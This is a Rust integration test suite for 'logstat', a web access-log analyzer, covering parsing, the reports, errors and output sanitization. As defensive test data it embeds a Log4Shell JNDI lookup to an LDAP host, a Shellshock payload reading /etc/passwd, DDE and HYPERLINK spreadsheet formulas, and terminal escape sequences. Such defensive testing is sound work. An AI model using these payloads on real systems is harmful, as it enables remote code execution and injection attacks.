//! End-to-end tests of the binary on logs written by the tests.

mod util;

use predicates::prelude::*;
use util::*;

/// Every odd-but-valid kind from the spec, one per line.
fn odd_valid() -> String {
    let mut s = String::new();
    s += &line("GET /users/8812 HTTP/1.1", "200", "512");
    s += &line(r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", "400", "157"); // TLS probe (nginx escapes)
    s += &line("-", "408", "-"); // request "-", bytes "-"
    s += &line("", "400", "0"); // empty request
    s += &line("GET /", "200", "10"); // no protocol
    s += &line("GET http://example.com/x HTTP/1.1", "200", "1"); // absolute URI
    s += &line("CONNECT example.com:443 HTTP/1.1", "405", "0");
    s += &line("PRI * HTTP/2.0", "400", "0");
    s += &line("FOOBAR /x HTTP/1.1", "501", "0"); // unknown method
    s += &line("GET /caf%C3%A9/\u{e9} HTTP/1.1", "404", "0"); // percent-encoded and raw UTF-8
    s += &line(&format!("GET /long?{} HTTP/1.1", "a".repeat(9000)), "414", "0"); // 9 KB request line
    s += &line("GET /nginx HTTP/1.1", "444", "0");
    s += &line("GET /slow HTTP/1.1", "499", "0");
    s += &line("GET /zero HTTP/1.1", "0", "0");
    s += &line("GET /cf HTTP/1.1", "520", "0");
    s += &line("GET /odd HTTP/1.1", "299", "0");
    s += &line("OPTIONS /dash HTTP/1.1", "-", "7908"); // status "-"
    s += "2001:db8::1 - - [10/Oct/2023:13:55:37 +0000] \"GET /v6 HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    s += "host.example - - [10/Oct/2023:13:55:38 +0000] \"GET /h HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    s += "192.0.2.1 - - [10/Oct/2023:13:55:39 +0000] \"GET /crlf HTTP/1.1\" 200 1 \"-\" \"-\"\r\n";
    s += "192.0.2.1 - - [10/Oct/2023:13:55:40 +0000] \"GET /x HTTP/1.1\" 200 1 \"-\" \"-\" \"198.51.100.1, 10.0.0.1\" 0.012 0.010\n";
    s += "192.0.2.1 - - [10/Oct/2023:13:55:41 +0000] \"GET /a\\\"b HTTP/1.1\" 200 1 \"ref \\\\ \\\"x\\\"\" \"ua\"\n"; // Apache escapes
    s
}

/// Every malformed kind, with its reason.
const MALFORMED: &[(&str, &str)] = &[
    ("", "blank"),
    ("192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Googlebot", "unclosed-quote"),
    ("\u{1}\u{2}garbage\u{7f}", "missing-timestamp"),
    ("192.0.2.1 - - [10/Foo/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [00/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [32/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [10/Oct/2023:24:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [10/Oct/2023:13:60:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [10/Oct/2023:13:55:61 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [10/Oct/2023:13:55:36] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"", "bad-timestamp"),
    ("192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" OK 1 \"-\" \"-\"", "bad-status"),
    ("192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\"", "format-mismatch"),
];

fn malformed_text() -> String {
    MALFORMED.iter().map(|(l, _)| format!("{l}\n")).collect()
}

#[test]
fn odd_valid_lines_all_parse_with_their_values() {
    let env = Env::new();
    let odd = odd_valid();
    let p = env.write("odd.log", &odd);
    let n = odd.lines().count();
    let s = summary(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "summary"]), 0));
    assert_eq!(s["lines"], n.to_string());
    assert_eq!(s["parsed"], n.to_string());
    assert_eq!(s["malformed"], "0");

    let status = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "status"]), 0);
    assert!(status.starts_with("status,name,class,count,percent\n"));
    for want in [
        "444,No Response,4xx,1,",
        "499,Client Closed Request,4xx,1,",
        "0,No Response,other,1,",
        "520,Web Server Returned an Unknown Error,5xx,1,",
        "299,unregistered,2xx,1,",
        "-,(no status),other,1,",
        "408,Request Timeout,4xx,1,",
    ] {
        assert!(status.contains(want), "{want} missing in\n{status}");
    }

    let rec = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "records"]), 0);
    let rows = csv_rows(&rec);
    assert_eq!(
        rows[0][..14],
        [
            "file",
            "line",
            "time",
            "ip",
            "user",
            "method",
            "path",
            "protocol",
            "status",
            "class",
            "route",
            "bytes",
            "referrer",
            "user_agent"
        ]
    );
    assert_eq!(rows.len(), n + 1);
    let by_line = |i: usize| &rows[i];
    assert_eq!(by_line(1)[5..11], ["GET", "/users/8812", "HTTP/1.1", "200", "2xx", "/users/:id"]);
    assert_eq!(by_line(2)[5], "(none)"); // TLS probe
    assert_eq!(by_line(2)[10], "(none)");
    assert_eq!((by_line(3)[8].as_str(), by_line(3)[11].as_str()), ("408", "0")); // bytes "-" = 0
    assert_eq!(by_line(5)[5..8], ["GET", "/", "-"]);
    assert_eq!(by_line(7)[6], "example.com:443");
    assert_eq!(by_line(9)[5], "FOOBAR");
    assert_eq!(by_line(10)[6], "/caf%C3%A9/\u{e9}");
    assert_eq!(by_line(17)[8..10], ["-", "other"]);
    assert_eq!(by_line(18)[3], "2001:db8::1");
    assert_eq!(by_line(19)[3], "host.example");
    assert_eq!(by_line(20)[6], "/crlf");
    assert_eq!(by_line(20)[13], "-", "no \\r left in the last field");
    assert_eq!(by_line(22)[6], "/a\\\"b");
    assert_eq!(by_line(22)[12], "ref \\\\ \\\"x\\\"");
    assert_eq!(by_line(1)[2], "2023-10-10T13:55:36+00:00");
}

#[test]
fn malformed_lines_are_counted_with_reasons_and_line_numbers() {
    let env = Env::new();
    let good = line("GET / HTTP/1.1", "200", "1");
    let text = format!("{good}{}{good}", malformed_text());
    let p = env.write("m.log", &text);
    let s = summary(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "summary", "--log-format", "combined"]), 0));
    assert_eq!(s["lines"], (MALFORMED.len() + 2).to_string());
    assert_eq!(s["parsed"], "2");
    assert_eq!(s["malformed"], MALFORMED.len().to_string());
    assert_eq!(s["malformed_bad_timestamp"], "7");
    let m = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "malformed", "--log-format", "combined"]), 0);
    let rows = csv_rows(&m);
    assert_eq!(rows[0], ["file", "line", "reason", "excerpt"]);
    for (i, (_, reason)) in MALFORMED.iter().enumerate() {
        assert_eq!(rows[i + 1][1], (i + 2).to_string());
        assert_eq!(rows[i + 1][2], *reason, "line {}", i + 2);
    }
    // Control bytes never reach the output raw.
    assert!(rows[3][3].contains("\\x01\\x02garbage\\x7f"));
}

#[test]
fn crlf_no_final_newline_and_empty_file() {
    let env = Env::new();
    let a = env.write(
        "a.log",
        line("GET /a HTTP/1.1", "200", "1").replace('\n', "\r\n") + line("GET /b HTTP/1.1", "404", "2").trim_end(),
    );
    let s = summary(&stdout_of(logstat().arg(&a).args(["-f", "csv", "-r", "summary"]), 0));
    assert_eq!((s["lines"].as_str(), s["parsed"].as_str(), s["bytes"].as_str()), ("2", "2", "3"));
    let e = env.write("empty.log", "");
    let s = summary(&stdout_of(logstat().arg(&e).args(["-f", "csv", "-r", "summary"]), 0));
    assert_eq!((s["lines"].as_str(), s["parsed"].as_str(), s["first_time"].as_str()), ("0", "0", ""));
}

#[test]
fn class_routes_and_windows_csv() {
    let env = Env::new();
    let mut text = String::new();
    for (i, (path, status)) in [
        ("/users/1", "200"),
        ("/users/2?x=1", "500"),
        ("/users/3", "404"),
        ("/static/app.3f9a2c1b.js", "200"),
        ("/o/123e4567-e89b-12d3-a456-426614174000", "301"),
    ]
    .iter()
    .enumerate()
    {
        let m = 13 * 60 + 50 + i * 3;
        text += &format!(
            "192.0.2.1 - - [10/Oct/2023:{:02}:{:02}:30 +0200] \"GET {path} HTTP/1.1\" {status} 100 \"-\" \"-\"\n",
            m / 60,
            m % 60
        );
    }
    let p = env.write("r.log", &text);
    let class = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "class"]), 0);
    assert_eq!(
        class,
        "class,count,percent\n1xx,0,0.00\n2xx,2,40.00\n3xx,1,20.00\n4xx,1,20.00\n5xx,1,20.00\nother,0,0.00\n"
    );
    let routes = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "routes"]), 0);
    assert_eq!(
        routes,
        "route,requests,1xx,2xx,3xx,4xx,5xx,bytes,other,failures,p50_ms,p90_ms,p99_ms,p999_ms,max_ms\n\
         /users/:id,3,0,1,0,1,1,300,0,1,,,,,\n/o/:uuid,1,0,0,1,0,0,100,0,0,,,,,\n/static/app.:hash.js,1,0,1,0,0,0,100,0,0,,,,,\n"
    );
    let windows = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "windows", "--window", "5m"]), 0);
    assert_eq!(
        windows,
        "window_start,requests,1xx,2xx,3xx,4xx,5xx,bytes,other,failures,p50_ms,p90_ms,p99_ms,p999_ms,max_ms,bot_requests\n\
         2023-10-10T13:50:00+02:00,2,0,1,0,0,1,200,0,1,,,,,,\n\
         2023-10-10T13:55:00+02:00,2,0,1,0,1,0,200,0,0,,,,,,\n\
         2023-10-10T14:00:00+02:00,1,0,0,1,0,0,100,0,0,,,,,,\n"
    );
    let utc = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "windows", "--window", "1h", "--tz", "UTC"]), 0);
    assert_eq!(utc.lines().nth(1).unwrap(), "2023-10-10T11:00:00+00:00,4,0,2,0,1,1,400,0,1,,,,,,");
    let berlin =
        stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "windows", "--window", "1d", "--tz", "+05:30"]), 0);
    assert_eq!(berlin.lines().nth(1).unwrap(), "2023-10-10T00:00:00+05:30,5,0,2,1,1,1,500,0,1,,,,,,");
    // --failures changes the failure columns: 404 counted, 5xx not.
    let f = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "routes", "--failures", "4xx,-403"]), 0);
    assert_eq!(f.lines().nth(1).unwrap(), "/users/:id,3,0,1,0,1,1,300,0,1,,,,,");
    let s = summary(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "summary", "--failures", "5xx,404"]), 0));
    assert_eq!((s["failures"].as_str(), s["failure_rate"].as_str()), ("2", "40.00"));
    let rows = csv_rows(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "summary", "--failures", "5xx,404"]), 0));
    assert!(rows.contains(&vec!["failure_codes".to_string(), "5xx,404".to_string()]));
    logstat().arg(&p).args(["--failures", "5xx,teapot"]).assert().code(2);
    let top = stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "routes", "--top", "1"]), 0);
    assert_eq!(top.lines().count(), 2);
}

#[test]
fn output_dir_json_and_records_jsonl() {
    let env = Env::new();
    let p = env.write("a.log", odd_valid());
    let out = env.path("out");
    stdout_of(logstat().arg(&p).arg("-o").arg(&out).args(["-r", "summary,status,routes,windows,class,malformed"]), 0);
    for r in ["summary", "status", "routes", "windows", "class", "malformed"] {
        assert!(out.join(format!("{r}.csv")).is_file(), "{r}.csv");
    }
    let json = stdout_of(logstat().arg(&p).args(["-f", "json"]), 0);
    let v: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(v["summary"][0]["metric"], "lines");
    assert_eq!(v["class"].as_array().unwrap().len(), 6);
    let recs = stdout_of(logstat().arg(&p).args(["-f", "json", "-r", "records"]), 0);
    let lines: Vec<serde_json::Value> = recs.lines().map(|l| serde_json::from_str(l).expect("JSON line")).collect();
    assert_eq!(lines.len(), odd_valid().lines().count());
    assert_eq!(lines[0]["route"], "/users/:id");
    assert_eq!(lines[0]["status"], 200);
    assert_eq!(lines[16]["status"], serde_json::Value::Null);
}

#[test]
fn several_inputs_and_stdin() {
    let env = Env::new();
    let a = env.write("a.log", line("GET /a HTTP/1.1", "200", "1").repeat(3));
    let b = line("GET /b HTTP/1.1", "500", "1").repeat(2);
    let s =
        summary(&stdout_of(logstat().arg(&a).arg("-").write_stdin(b.clone()).args(["-f", "csv", "-r", "summary"]), 0));
    assert_eq!((s["lines"].as_str(), s["files"].as_str()), ("5", "2"));
    // No FILE and piped stdin: stdin is read.
    let s = summary(&stdout_of(logstat().write_stdin(b).args(["-f", "csv", "-r", "summary"]), 0));
    assert_eq!(s["lines"], "2");
}

#[test]
fn errors_name_the_path_and_set_exit_codes() {
    let env = Env::new();
    let good = env.write("good.log", line("GET / HTTP/1.1", "200", "1"));
    let missing = env.path("missing.log");
    let out =
        logstat().arg(&good).arg(&missing).arg(env.dir.path()).args(["-f", "csv", "-r", "summary"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("logstat: {}: No such file or directory", missing.display())), "{err}");
    assert!(err.contains(&format!("logstat: {}: is a directory", env.dir.path().display())), "{err}");
    let s = summary(&String::from_utf8_lossy(&out.stdout));
    assert_eq!((s["lines"].as_str(), s["files_failed"].as_str()), ("1", "2"));

    for args in [
        &["--report", "nope"][..],
        &["--log-format", "nope"],
        &["--window", "5x"],
        &["--tz", "Mars/Base"],
        &["-f", "csv", "-r", "summary,class"],
        &["-r", "records"],
        &["--bogus"],
    ] {
        logstat()
            .arg(&good)
            .args(args)
            .assert()
            .code(2)
            .stderr(predicate::str::starts_with("logstat: ").or(predicate::str::starts_with("error:")));
    }
    logstat().arg(&good).args(["--report", "nope"]).assert().code(2).stderr(
        "logstat: --report: unknown report 'nope' (choose from summary, files, class, status, routes, clients, agents, os, referrers, visitors, hosts, methods, windows, latency, sizes, malformed, findings, records)\n",
    );
}

#[test]
fn terminal_table_is_readable_and_colour_free_off_terminal() {
    let env = Env::new();
    let p = env.write("a.log", odd_valid());
    let out = stdout_of(logstat().arg(&p), 0);
    assert!(out.starts_with("logstat — "), "{out}");
    for section in ["Status classes", "Status codes", "Top routes", "Requests per"] {
        assert!(out.contains(section), "{section}");
    }
    assert!(out.contains("444 No Response (nginx)"));
    assert!(!out.contains('\x1b'), "no colour when not a terminal");
    let coloured = stdout_of(logstat().arg(&p).args(["--color", "always"]), 0);
    assert!(coloured.contains('\x1b'));
    let no_color = stdout_of(logstat().arg(&p).env("NO_COLOR", "1"), 0);
    assert!(!no_color.contains('\x1b'));
}

#[test]
fn hostile_bytes_never_reach_the_terminal_raw() {
    let env = Env::new();
    let evil = "192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET /\x1b[2J\x1b]0;pwned\x07 HTTP/1.1\" 200 1 \"-\" \"\x1b[31mred\r\x08\"\n";
    let p = env.write("evil.log", evil);
    for args in [&["-r", "routes"][..], &["-f", "csv", "-r", "records"], &["-f", "json", "-r", "records"]] {
        let out = stdout_of(logstat().arg(&p).args(args), 0);
        assert!(!out.bytes().any(|b| b == 0x1b || b == 0x07 || b == 0x08 || b == b'\r'), "{args:?}: {out:?}");
        assert!(out.contains("\\x1b[2J"), "{out}");
    }
    // Invalid UTF-8 becomes \xHH, so output is always valid UTF-8.
    let p = env.write(
        "bin.log",
        b"192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET /\xff\xfe HTTP/1.1\" 200 1 \"-\" \"\xc3\x28\"\n",
    );
    let out = stdout_of(logstat().arg(&p).args(["-f", "json", "-r", "records"]), 0);
    let v: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(v["path"], "/\\xff\\xfe");
    assert_eq!(v["user_agent"], "\\xc3(");
}

#[test]
fn csv_injection_is_neutralized_unless_raw() {
    let env = Env::new();
    let p = env.write("inj.log", "192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET /x HTTP/1.1\" 200 1 \"=HYPERLINK(\\\"http://evil\\\")\" \"@SUM(1+1)\"\n");
    let rows = csv_rows(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "records"]), 0));
    assert!(rows[1][12].starts_with("'="), "{:?}", rows[1]);
    assert!(rows[1][13].starts_with("'@"));
    assert_eq!(rows[1][4], "-", "a lone - is left alone");
    let rows = csv_rows(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "records", "--raw-csv"]), 0));
    assert!(rows[1][12].starts_with('='));
}

#[test]
fn closed_stdout_exits_quietly() {
    let env = Env::new();
    let p = env.write("big.log", line("GET /a HTTP/1.1", "200", "1").repeat(50_000));
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("logstat"))
        .arg(&p)
        .args(["-f", "csv", "-r", "records"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take()); // like `| head` closing early
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
}

#[test]
fn format_is_announced_on_stderr_once_per_input() {
    let env = Env::new();
    let a = env.write("a.log", line("GET / HTTP/1.1", "200", "1"));
    let b = env.write("b.log", "192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.0\" 200 2326\n");
    let out = logstat().arg(&a).arg(&b).args(["-f", "csv", "-r", "class"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.matches("format combined").count(), 1, "{err}");
    assert_eq!(err.matches("format common").count(), 1, "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("format"));
    let out = logstat().arg(&a).args(["-q", "-f", "csv", "-r", "class"]).output().unwrap();
    assert!(out.stderr.is_empty());
}

#[test]
fn attack_strings_from_real_traffic_are_neutralized() {
    let env = Env::new();
    let uas = [
        "${jndi:ldap://198.51.100.7:1389/Exploit}",        // Log4Shell
        "() { :; }; /bin/bash -c \\\"cat /etc/passwd\\\"", // Shellshock
        "=cmd|' /C calc'!A0",                              // DDE formula
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\x1b]0;owned\x07\x1b[2J", // nginx-escaped OSC/CSI
    ];
    let mut log = String::new();
    for ua in uas {
        log += &format!("192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"{ua}\"\n");
    }
    // Raw ESC/BEL bytes as Apache would log them unescaped.
    log += "192.0.2.1 - - [10/Oct/2023:13:55:36 +0000] \"GET /\x1b]0;owned\x07 HTTP/1.1\" 200 1 \"-\" \"\x1b[31m\"\n";
    let p = env.write("attack.log", &log);
    let rows = csv_rows(&stdout_of(logstat().arg(&p).args(["-f", "csv", "-r", "records"]), 0));
    for r in &rows[1..] {
        for cell in r {
            assert!(!matches!(cell.as_bytes().first(), Some(b'=' | b'+' | b'@' | b'\t' | b'\r')), "{cell}");
            assert!(!(cell.starts_with('-') && cell != "-" && cell.parse::<f64>().is_err()), "{cell}");
            assert!(!cell.bytes().any(|b| b < 0x20 || b == 0x7f), "{cell:?}");
        }
    }
    assert_eq!(rows[1][13], "${jndi:ldap://198.51.100.7:1389/Exploit}", "text that is not a formula stays as logged");
    let table = stdout_of(logstat().arg(&p).args(["-r", "routes,malformed"]), 0);
    assert!(!table.bytes().any(|b| b == 0x1b || b == 0x07));
}

#[test]
fn man_page_and_completions_are_generated_from_the_definition() {
    let man = stdout_of(logstat().args(["--generate", "man"]), 0);
    assert!(man.contains(".TH logstat 1"), "{man}");
    for opt in ["state", "allow\\-gaps", "fail\\-if", "max\\-routes", "window", "generate"] {
        assert!(man.contains(&format!("\\-\\-{opt}")), "man page lacks --{opt}");
    }
    for (kind, needle) in [
        ("complete-bash", "complete -F _logstat"),
        ("complete-zsh", "#compdef logstat"),
        ("complete-fish", "complete -c logstat"),
    ] {
        let out = stdout_of(logstat().args(["--generate", kind]), 0);
        assert!(out.contains(needle) && out.contains("max-routes"), "{kind}");
    }
    // The bash script loads in bash and registers the completion.
    if std::process::Command::new("bash").arg("--version").output().is_ok() {
        let script = stdout_of(logstat().args(["--generate", "complete-bash"]), 0);
        let out = std::process::Command::new("bash")
            .args(["-c", &format!("{script}\ncomplete -p logstat")])
            .output()
            .unwrap();
        assert!(String::from_utf8_lossy(&out.stdout).contains("_logstat logstat"), "{out:?}");
    }
}

/// `LOGSTAT_PHASES=1` prints each phase of a mapped run on stderr (with the
/// batch's workers), in order, with times that only grow; the report on
/// stdout is the one a run without it writes; without it, no phase line.
#[test]
fn phase_timings_are_printed_only_when_asked_for() {
    let env = Env::new();
    let mut log = String::new();
    for i in 0..3000 {
        log += &line(&format!("GET /users/{i} HTTP/1.1"), ["200", "404", "499"][i % 3], "512");
    }
    let p = env.write("access.log", log);
    let args = ["-q", "-j", "2", "--mmap", "always", "-f", "csv", "-r", "summary"];
    let plain =
        logstat().arg(&p).args(args).env_remove("LOGSTAT_PHASES").env("LOGSTAT_CHUNK_BYTES", "65536").output().unwrap();
    assert!(plain.stderr.is_empty(), "{}", String::from_utf8_lossy(&plain.stderr));
    let timed =
        logstat().arg(&p).args(args).env("LOGSTAT_PHASES", "1").env("LOGSTAT_CHUNK_BYTES", "65536").output().unwrap();
    assert_eq!(timed.status.code(), Some(0));
    assert_eq!(timed.stdout, plain.stdout, "timings change nothing on stdout");
    let err = String::from_utf8(timed.stderr).unwrap();
    let phases: Vec<(f64, &str)> = err
        .lines()
        .map(|l| {
            let rest = l.strip_prefix("logstat: phase").unwrap_or_else(|| panic!("not a phase line: {l}"));
            let (ms, what) = rest.trim_start().split_once(" ms ").unwrap();
            (ms.parse().unwrap(), what.split_once(" ms  ").unwrap().1)
        })
        .collect();
    let names: Vec<&str> = phases.iter().map(|(_, w)| w.split([',', ':']).next().unwrap()).collect();
    assert_eq!(names.first(), Some(&"arguments parsed"), "{err}");
    assert!(names.contains(&"format chosen") && names.contains(&"batch from chunk 0"), "{err}");
    assert_eq!(names[names.len() - 3..], ["workers' counts merged", "inputs counted", "report written"], "{err}");
    let batch = phases.iter().find(|(_, w)| w.starts_with("batch from chunk 0")).unwrap().1;
    assert_eq!(batch.matches(" pieces").count(), 2, "one entry per worker: {batch}");
    assert!(phases.windows(2).all(|w| w[0].0 <= w[1].0), "{err}");
}
